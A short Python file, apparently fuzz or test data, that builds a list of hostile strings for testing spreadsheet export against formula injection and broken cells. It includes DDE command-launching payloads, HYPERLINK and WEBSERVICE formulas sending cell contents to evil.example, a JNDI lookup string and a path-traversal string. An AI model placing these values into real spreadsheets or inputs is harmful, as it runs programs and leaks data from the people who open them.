"""500 and more strings that a spreadsheet could take for a formula, or that break a file."""

from itertools import product

# What begins a formula in the programs in use, the full-width forms among them.
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
# What formulas do harm with: run a program, send what stands beside them elsewhere, show a link, or just count.
BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "SUM(1+1)*cmd|' /C notepad'!A0",
    "1+1",
    'WEBSERVICE("http://evil.example/"&B2)',
)
# What programs pass over, or take for the end of a cell or line, before they look.
BEFORE = (
    "", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u200e", "\x00", "'", '"', ";", ",", "|",
    "a;", 'a"\n', "x\t",
)  # fmt: skip
OTHERS = (
    "", "'", "''", "'=1", "-An", "- An", "+84912345678", "-1", "−1", "@admin", "=", "==", "_x0041_", "_x000D_", "\x01\x1b",
    "a" * 40_000, "=" + "9" * 40_000, "\ud800", "Nguyễn\udfff", "\ufffe", "1e9", "0912345678", "20/11/2026", "TRUE",
    "#REF!", "{=1+1}", "<f>1+1</f>", "]]>", "&amp;", "</c></row>", "Nguyễn Thị Ánh Tuyết", "'s-Hertogenbosch",
    "%3D1%2B1", "\u202e=1+1", "NULL", "../../etc/passwd", "${jndi:ldap://evil.example}", "\u061c=1", "\u2066=1\u2069",
)  # fmt: skip
FORMULAS = tuple(before + start + body for before, start, body in product(BEFORE, STARTS, BODIES))
HOSTILE = FORMULAS + OTHERS
